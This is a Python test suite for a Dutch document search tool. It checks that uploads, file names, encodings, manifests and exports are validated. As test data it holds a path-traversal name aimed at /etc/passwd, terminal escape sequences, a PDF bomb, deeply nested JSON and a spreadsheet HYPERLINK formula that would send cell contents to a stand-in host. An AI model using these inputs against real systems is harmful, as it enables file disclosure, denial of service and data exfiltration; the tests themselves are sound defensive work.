"""Files, names, encodings and manifests from outside are checked, never trusted (issue 9).

Each test failed on the round-1 code or guards a defect of issue 9; real model, real Chroma,
real files.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from kb import api
from kb.cli import main as cli
from kb.cli import terminal_safe
from kb.index.layout import active
from kb.index.store import Store
from kb.uploads import add_files

PINGUIN = "# Notities\n\nDe pinguinregeling geeft elke leerling een vaste contactpersoon op school.\n"

ZEBRA = "# Zebra\n\nHet zebraprotocol regelt dat ouders binnen twee weken een gesprek krijgen.\n"


def test_an_upload_never_replaces_another_of_the_same_name(fresh_settings, embedder):
    # issue 23, security 1: two users upload "gedeeld.txt"; both used to be told "toegevoegd"
    first = add_files([("gedeeld.txt", PINGUIN.encode())], fresh_settings, embedder=embedder)
    assert [r.ok for r in first] == [True]
    second = add_files([("gedeeld.txt", ZEBRA.encode())], fresh_settings, embedder=embedder)
    assert [r.ok for r in second] == [False]
    assert "al een document met deze bestandsnaam" in second[0].message and "andere naam" in second[0].message
    bad = add_files([("gedeeld.txt", bytes(range(256)) * 8)], fresh_settings, embedder=embedder)
    assert [r.ok for r in bad] == [False]

    kept = fresh_settings.home / "uploads" / "gedeeld.txt"
    assert kept.read_text(encoding="utf-8") == PINGUIN, "the first file is never deleted"
    api.forget_retrievers()
    assert api.search("pinguinregeling", settings=fresh_settings)[0].source == "gedeeld.txt"
    assert not any("zebraprotocol" in p.text for p in api.search("zebraprotocol", settings=fresh_settings))
    # the same file again replaces nothing and is not an error; a case variant is the same name
    again = add_files([("gedeeld.txt", PINGUIN.encode())], fresh_settings, embedder=embedder)
    assert [r.ok for r in again] == [True] and "stond al" in again[0].message
    assert not add_files([("GEDEELD.txt", ZEBRA.encode())], fresh_settings, embedder=embedder)[0].ok
    assert sorted(p.name for p in (fresh_settings.home / "uploads").iterdir()) == [".nieuw", "gedeeld.txt"]
    assert not list((fresh_settings.home / "uploads").glob(".nieuw/*"))


def test_names_that_differ_stay_different_when_made_safe(fresh_settings, embedder):
    from kb.uploads import MAX_NAME_BYTES, safe_name

    names = ["verslag (1).txt", "verslag [1].txt", "verslag {1}.txt", "verslag _1_.txt", ".verslag.txt"]
    safe = [safe_name(n) for n in names]
    assert len(set(safe)) == len(names), safe
    assert safe[0] == "verslag (1).txt", "a name that is safe already is kept as it is"
    assert all(s.endswith(".txt") and not s.startswith(".") and "/" not in s for s in safe)
    long = [safe_name("a" * 252 + ".txt"), safe_name("a" * 251 + "b.txt"), safe_name("é" * 200 + ".pdf")]
    assert len(set(long)) == 3 and all(len(n.encode("utf-8")) <= MAX_NAME_BYTES for n in long)
    assert safe_name("../../etc/passwd") == "passwd"

    results = add_files(
        [("verslag (1).txt", PINGUIN.encode()), ("verslag [1].txt", ZEBRA.encode())],
        fresh_settings,
        embedder=embedder,
    )
    assert [r.ok for r in results] == [True, True], results
    api.forget_retrievers()
    docs = api.documents(fresh_settings)
    assert set(docs) == {safe_name("verslag (1).txt"), safe_name("verslag [1].txt")}
    assert api.search("pinguinregeling", settings=fresh_settings)[0].source == "verslag (1).txt"
    assert api.search("zebraprotocol", settings=fresh_settings)[0].source == safe_name("verslag [1].txt")


def _pdf_with_title(path: Path, title) -> Path:
    """A usable PDF whose document information has ``/Title`` as ``title`` (a number, say)."""
    from conftest import write_pdf
    from pypdf import PdfWriter
    from pypdf.generic import NameObject

    write_pdf(path, [PINGUIN.replace("#", "") * 3])
    writer = PdfWriter(clone_from=str(path))
    writer.add_metadata({"/Title": "tijdelijk"})
    writer._info[NameObject("/Title")] = title  # pypdf's own metadata API only writes text
    writer.write(str(path))
    return path


def test_one_unexpected_file_in_an_upload_batch_stops_nothing(fresh_settings, embedder, tmp_path):
    # issue 23, security 3: a PDF whose /Title is a number, a name of 256 bytes, a name of 251 bytes
    from pypdf.generic import NumberObject

    pdf = _pdf_with_title(tmp_path / "titel.pdf", NumberObject(2016))
    batch = [
        ("eerst.txt", ZEBRA.encode()),
        ("titel.pdf", pdf.read_bytes()),
        ("l" * 252 + ".txt", b"# Lang\n\nDe leerplichtambtenaar overlegt elke maand over thuiszitters.\n"),
        ("m" * 247 + ".txt", b"# Ook lang\n\nHet samenwerkingsverband maakt afspraken met de gemeente.\n"),
    ]
    results = add_files(batch, fresh_settings, embedder=embedder)
    assert len(results) == 4 and all(r.ok for r in results), [r.message for r in results]
    api.forget_retrievers()
    docs = api.documents(fresh_settings)
    assert "eerst.txt" in docs and "titel.pdf" in docs and len(docs) == 4
    assert docs["titel.pdf"].title == "2016"
    uploads = fresh_settings.home / "uploads"
    assert {p.name for p in uploads.iterdir() if p.is_file()} == set(docs), "nothing saved but not indexed"
    assert not list(uploads.glob(".nieuw/*"))
    # kb ingest takes the same PDF
    home = tmp_path / "cli"
    run = CliRunner().invoke(cli, ["ingest", str(pdf)], env={"KB_HOME": str(home)})
    assert run.exit_code == 0 and "1 nieuw" in run.output, run.output


def test_an_upload_batch_the_index_refuses_leaves_no_file_behind(fresh_settings, embedder):
    # an upload is indexed, or it is not there: an ingest that fails as a whole (here: the index
    # was built with another model) is a message, and the batch's files are removed again
    assert add_files([("eerst.txt", PINGUIN.encode())], fresh_settings, embedder=embedder)[0].ok

    class OtherModel:
        name = "een-ander-model"

        def __getattr__(self, attr):
            return getattr(embedder, attr)

    results = add_files(
        [("tweede.txt", ZEBRA.encode()), ("derde.txt", ZEBRA.encode() * 2)], fresh_settings, embedder=OtherModel()
    )
    assert [r.ok for r in results] == [False, False]
    assert all("kb ingest --rebuild" in r.message for r in results), results
    uploads = fresh_settings.home / "uploads"
    assert sorted(p.name for p in uploads.iterdir() if p.is_file()) == ["eerst.txt"]


def test_an_upload_is_checked_by_content_and_size(fresh_settings, embedder):
    fake = add_files(
        [("rapport.pdf", b"Dit is gewoon tekst met een verkeerde extensie. " * 20)], fresh_settings, embedder=embedder
    )
    assert not fake[0].ok and "geen PDF" in fake[0].message
    small = _with(fresh_settings, max_file_mb=0.001)
    big = add_files([("groot.txt", PINGUIN.encode() * 100)], small, embedder=embedder)
    assert not big[0].ok and "te groot" in big[0].message and "KB_MAX_FILE_MB" in big[0].message
    assert not (fresh_settings.home / "uploads" / "groot.txt").exists()


def _with(settings, **changes):
    import dataclasses

    return dataclasses.replace(settings, **changes)


def test_names_that_look_alike_keep_their_own_stored_copy(fresh_settings, embedder, tmp_path):
    (tmp_path / "rapport 2020.txt").write_text(PINGUIN, encoding="utf-8")
    (tmp_path / "rapport_2020.txt").write_text(ZEBRA, encoding="utf-8")
    api.ingest([tmp_path], settings=fresh_settings, embedder=embedder)
    first = " ".join(b["text"] for b in api.document_blocks("rapport 2020.txt", fresh_settings))
    second = " ".join(b["text"] for b in api.document_blocks("rapport_2020.txt", fresh_settings))
    assert "pinguinregeling" in first and "zebraprotocol" not in first
    assert "zebraprotocol" in second and "pinguinregeling" not in second


def test_escape_sequences_from_documents_never_reach_the_terminal(tmp_path, monkeypatch):
    hostile = (
        "# Links\n\nDe pinguinregeling staat op \x1b]8;;https://example.invalid\x1b\\deze pagina\x1b]8;;\x1b\\ "
        "en \x1b[31mrood\x1b[0m gemaakt, met een bel\x07 erbij.\n"
    )
    (tmp_path / "links.txt").write_text(hostile, encoding="utf-8")
    monkeypatch.setenv("KB_HOME", str(tmp_path / "kbhome"))
    assert CliRunner().invoke(cli, ["ingest", str(tmp_path / "links.txt")]).exit_code == 0
    for command in (
        ["search", "pinguinregeling"],
        ["ask", "Waar staat de pinguinregeling?"],
        ["search", "pinguinregeling", "--json"],
    ):
        out = CliRunner().invoke(cli, command).output
        assert "pinguinregeling" in out or command[0] == "ask"
        assert "\x1b" not in out and "\x07" not in out, repr(out)
    assert terminal_safe("a\x1b]8;;http://x\x07b\x1b]8;;\x07c\x1b[2Jd") == "abcd"


@pytest.mark.parametrize(
    "encoding, data",
    [
        ("latin-1", "De leerling wordt geëvalueerd; ouders krijgen één gesprek.".encode("latin-1")),
        ("cp1252", "De leerling wordt geëvalueerd – “één” gesprek voor ouders.".encode("cp1252")),
        ("utf-8-sig", "De leerling wordt geëvalueerd; ouders krijgen één gesprek.".encode("utf-8-sig")),
        ("utf-16", "De leerling wordt geëvalueerd; ouders krijgen één gesprek.".encode("utf-16")),
        ("utf-16-le", "De leerling wordt geëvalueerd; ouders krijgen één gesprek.".encode("utf-16-le")),
    ],
)
def test_text_in_any_common_encoding_is_read(tmp_path, encoding, data):
    from ingest.loaders import load_file

    path = tmp_path / "tekst.txt"
    path.write_bytes(data)
    text = load_file(path).pages[0].text
    assert "geëvalueerd" in text and "één" in text, (encoding, text)


def test_a_file_over_the_size_limit_is_refused_with_the_setting_named(fresh_settings, embedder, tmp_path):
    big = tmp_path / "groot.txt"
    big.write_text(PINGUIN * 20_000, encoding="utf-8")  # about 1.8 MB
    report = api.ingest([big], settings=_with(fresh_settings, max_file_mb=1.0), embedder=embedder)
    assert not report.ok and "KB_MAX_FILE_MB" in report.failed[0][1]


def test_a_damaged_manifest_gives_a_message_not_a_traceback(fresh_settings, embedder, tmp_path, monkeypatch):
    (tmp_path / "pinguin.txt").write_text(PINGUIN, encoding="utf-8")
    api.ingest([tmp_path / "pinguin.txt"], settings=fresh_settings, embedder=embedder)
    active(fresh_settings).manifest.write_text("{niet af", encoding="utf-8")
    monkeypatch.setenv("KB_HOME", str(fresh_settings.home))
    result = CliRunner().invoke(cli, ["search", "pinguinregeling"])
    assert result.exit_code != 0 and "Traceback" not in result.output
    assert "beschadigd" in result.output and "kb ingest --rebuild" in result.output


def test_a_manifest_of_the_first_layout_is_read(fresh_settings, embedder, tmp_path):
    (tmp_path / "_pinguin.txt").write_text(PINGUIN, encoding="utf-8")
    api.ingest([tmp_path / "_pinguin.txt"], settings=fresh_settings, embedder=embedder)
    path = active(fresh_settings).manifest
    data = json.loads(path.read_text(encoding="utf-8"))
    old = {"_model": data["model"], **data["documents"]}  # round 1 kept documents and "_" keys side by side
    path.write_text(json.dumps(old), encoding="utf-8")
    assert set(Store(fresh_settings).documents()) == {"_pinguin.txt"}


def test_the_default_settings_make_no_network_connection(corpus_settings, embedder, monkeypatch):
    import socket

    calls: list = []
    real = socket.socket.connect

    def traced(sock, address):
        calls.append(address)
        return real(sock, address)

    monkeypatch.setattr(socket.socket, "connect", traced)
    monkeypatch.setattr(
        socket,
        "create_connection",
        lambda address, *a, **k: (
            calls.append(address) or (_ for _ in ()).throw(OSError("network blocked in this test"))
        ),
    )
    answer = api.ask("Wat is de zorgplicht?", settings=corpus_settings)
    assert answer.citations
    api.search("ontwikkelingsperspectief", settings=corpus_settings)
    outside = [
        a
        for a in calls
        if not (isinstance(a, tuple) and str(a[0]) in ("127.0.0.1", "::1", "localhost")) and not isinstance(a, str)
    ]
    assert outside == []


def test_paths_of_the_index_do_not_depend_on_file_names(fresh_settings):
    from kb.index.store import doc_file

    assert doc_file("rapport 2020.txt") != doc_file("rapport_2020.txt")
    assert Path(doc_file("../../etc/passwd")).name == doc_file("../../etc/passwd")


# --- issue 23: the security probe's findings ---------------------------------------------------


def _repeated_page_pdf(path: Path, pages: int) -> Path:
    """A PDF bomb: a few KB that repeat one page of text ``pages`` times."""
    from conftest import write_pdf
    from pypdf import PdfReader, PdfWriter

    one = write_pdf(path.with_suffix(".een.pdf"), [PINGUIN.replace("#", "") * 4])
    writer = PdfWriter()
    page = PdfReader(str(one)).pages[0]
    for _ in range(pages):
        writer.add_page(page)
    writer.write(str(path))
    return path


def test_a_pdf_bomb_is_refused_by_its_page_count_before_its_text_is_read(fresh_settings, embedder, tmp_path):
    import time

    bomb = _repeated_page_pdf(tmp_path / "bom.pdf", 4000)
    assert bomb.stat().st_size < 2_000_000
    started = time.perf_counter()
    report = api.ingest([bomb], settings=fresh_settings, embedder=embedder)
    assert time.perf_counter() - started < 30
    (path, reason), *_ = report.failed
    assert path.endswith("bom.pdf") and "4000 pagina's" in reason and "1500" in reason and "KB_MAX_PAGES" in reason
    # in the app the file is named too
    result = add_files([("bom.pdf", bomb.read_bytes())], fresh_settings, embedder=embedder)
    assert not result[0].ok and "bom.pdf" in result[0].message and "KB_MAX_PAGES" in result[0].message


def test_a_file_with_too_many_passages_is_refused_before_any_is_embedded(fresh_settings, embedder, tmp_path):
    embedded: list[int] = []

    class Counting:
        name = embedder.name

        def __getattr__(self, attr):
            return getattr(embedder, attr)

        def embed_passages_with_spans(self, texts, *args, **kwargs):
            embedded.append(len(texts))
            return embedder.embed_passages_with_spans(texts, *args, **kwargs)

    sections = "".join(
        f"## Deel {i}\n\nHet zebraprotocol deel {i} regelt gesprekken tussen ouders en school over de leerling. "
        f"Afspraak {i} wordt vastgelegd in het ontwikkelingsperspectief van de leerling.\n\n"
        for i in range(40)
    )
    (tmp_path / "veel.txt").write_text("# Veel delen\n\n" + sections, encoding="utf-8")
    (tmp_path / "klein.txt").write_text(PINGUIN, encoding="utf-8")
    limited = _with(fresh_settings, max_passages=10)
    report = api.ingest([tmp_path / "veel.txt", tmp_path / "klein.txt"], settings=limited, embedder=Counting())
    assert report.added == ["klein.txt"]
    (path, reason), *_ = report.failed
    assert path.endswith("veel.txt") and "KB_MAX_PASSAGES" in reason and "de grens is 10 passages" in reason
    assert sum(embedded) == 1, "only the small file's passage was embedded"

    # a text that cannot fit in the limit is refused before it is cleaned (seconds per MB)
    big = tmp_path / "groot.txt"
    big.write_text("# Groot\n\n" + sections * 300, encoding="utf-8")  # about 1.4 MB
    stages: list[str] = []
    report = api.ingest([big], settings=limited, embedder=Counting(), progress=lambda s, *a: stages.append(s))
    assert "KB_MAX_PASSAGES" in report.failed[0][1]
    assert "clean" not in stages, "the big file was refused before its cleaning started"


def test_a_later_ingest_of_a_same_named_file_from_another_folder_replaces_nothing(fresh_settings, embedder, tmp_path):
    for folder, text in (("a", PINGUIN), ("b", ZEBRA)):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "notities.txt").write_text(text, encoding="utf-8")
    api.ingest([tmp_path / "a"], settings=fresh_settings, embedder=embedder)
    later = api.ingest([tmp_path / "b"], settings=fresh_settings, embedder=embedder)
    assert later.updated == [] and len(later.failed) == 1
    reason = later.failed[0][1]
    assert "al een document met de naam notities.txt" in reason and str(tmp_path / "a") in reason
    text = " ".join(b["text"] for b in api.document_blocks("notities.txt", fresh_settings))
    assert "pinguinregeling" in text and "zebraprotocol" not in text
    # the CLI says so and fails
    run = CliRunner().invoke(cli, ["ingest", str(tmp_path / "b")], env={"KB_HOME": str(fresh_settings.home)})
    assert run.exit_code == 1 and "MISLUKT" in run.output and "unieke naam" in run.output
    # a file that moved is the same document: its old place is gone, so it is updated
    (tmp_path / "a" / "notities.txt").unlink()
    moved = api.ingest([tmp_path / "b"], settings=fresh_settings, embedder=embedder)
    assert moved.updated == ["notities.txt"] and moved.ok


def test_a_malformed_line_in_a_batch_is_reported_and_the_others_are_answered(corpus_settings, tmp_path):
    lines = [
        json.dumps({"id": "a", "question": "Wat is een opp?"}).encode(),
        json.dumps({"id": "b", "question": 123}).encode(),
        json.dumps(["Wat is een opp?"]).encode(),
        json.dumps({"id": "d", "question": "Wat is een opp?", "history": "tekst"}).encode(),
        b'{"id": "e", "question": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        b'{"id": "f", "question": "Wat is een \xff\xfe opp?"}',
        json.dumps({"id": "g", "question": "Wat is de zorgplicht?", "persona": "piraat"}).encode(),
        json.dumps({"id": "h", "question": "Wat is de zorgplicht?"}).encode(),
    ]
    batch = tmp_path / "vragen.jsonl"
    batch.write_bytes(b"\n".join(lines) + b"\n")
    out = tmp_path / "antwoorden.jsonl"
    run = CliRunner().invoke(
        cli, ["ask", "--batch", str(batch), "--out", str(out)], env={"KB_HOME": str(corpus_settings.home)}
    )
    assert run.exit_code == 0 and run.exception is None, run.output
    answers = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [a.get("id") for a in answers] == ["a", None, None, None, None, None, None, "h"]
    assert answers[0]["citations"] and answers[-1]["citations"], "the good lines are answered"
    errors = {a["line"]: a["error"] for a in answers if "error" in a}
    assert sorted(errors) == [2, 3, 4, 5, 6, 7]
    assert "'question' moet tekst zijn" in errors[2] and "JSON-object" in errors[3]
    assert "'history'" in errors[4] and "genest" in errors[5] and "UTF-8" in errors[6] and "persona" in errors[7]
    for n in errors:
        assert f"regel {n} overgeslagen" in run.stderr


def test_feedback_export_to_csv_never_writes_a_formula(tmp_path):
    import csv
    import io

    from kb.chats import ChatStore, export_feedback, new_id
    from kb.results import Answer

    store = ChatStore(tmp_path / "gesprekken.sqlite3")
    conversation = new_id()
    turn = store.add_turn(conversation, "+31 6 1234", Answer(question="+31 6 1234", answer="-1 is geen antwoord"))
    store.save_feedback(turn, score=0, comment='=HYPERLINK("http://example.invalid/?"&A1,"klik")')
    text = export_feedback(store.feedback(), "csv")
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["comment"] == '\'=HYPERLINK("http://example.invalid/?"&A1,"klik")'
    assert row["question"] == "'+31 6 1234" and row["answer"] == "'-1 is geen antwoord"
    for cell in (c for r in csv.reader(io.StringIO(text)) for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert json.loads(export_feedback(store.feedback(), "jsonl"))["comment"].startswith("=HYPERLINK"), (
        "JSON Lines keeps the text as it is"
    )


def test_search_says_what_is_wrong_with_k_and_with_filters(corpus_settings, monkeypatch):
    from kb.errors import KBError

    with pytest.raises(KBError, match="minstens 1"):
        api.search("ontwikkelingsperspectief", k=-1, settings=corpus_settings)
    monkeypatch.setenv("KB_HOME", str(corpus_settings.home))
    run = CliRunner().invoke(cli, ["search", "-k", "-1", "ontwikkelingsperspectief"])
    assert run.exit_code == 1 and "minstens 1" in run.output and "[1]" not in run.output
    with pytest.raises(KBError, match=r"onbekend filter 'year'.*years") as unknown:
        api.search("ontwikkelingsperspectief", filters={"year": 2016}, settings=corpus_settings)
    assert "docs" in str(unknown.value) and "sectors" in str(unknown.value), "the allowed keys are named"
    with pytest.raises(KBError, match="jaartallen"):
        api.search("ontwikkelingsperspectief", filters={"years": ["abc"]}, settings=corpus_settings)
    with pytest.raises(KBError, match="jaartallen"):
        api.ask("Wat is een opp?", filters={"years": 2016}, settings=corpus_settings)
    found = api.search("ontwikkelingsperspectief", filters={"years": ["2016"]}, settings=corpus_settings)
    assert found and all(p.year == 2016 for p in found), "a year as text still works"


def test_a_wrong_chroma_token_is_said_to_be_wrong(tmp_path):
    """A proxy in front of Chroma that wants a token: the heartbeat is open, the rest is not."""
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    class TokenProxy(BaseHTTPRequestHandler):
        def do_GET(self):
            if self.path.startswith("/api/v2/heartbeat"):
                body, status = b'{"nanosecond heartbeat": 1}', 200
            elif self.headers.get("Authorization") != "Bearer goed":
                body, status = b'{"error": "Unauthorized", "message": "bad token"}', 403
            else:
                body, status = b"{}", 404
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), TokenProxy)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    env = {
        "KB_HOME": str(tmp_path / "kb"),
        "KB_CHROMA_MODE": "http",
        "KB_CHROMA_PORT": str(server.server_address[1]),
        "KB_CHROMA_TOKEN": "fout",
    }
    try:
        run = CliRunner().invoke(cli, ["search", "ontwikkelingsperspectief"], env=env)
    finally:
        server.shutdown()
        server.server_close()
    assert run.exit_code == 1 and run.exception is not None and "Traceback" not in run.output
    assert "KB_CHROMA_TOKEN" in run.output and "HTTP 403" in run.output, run.output
    assert "niet bereikbaar" not in run.output and "Start de server" not in run.output
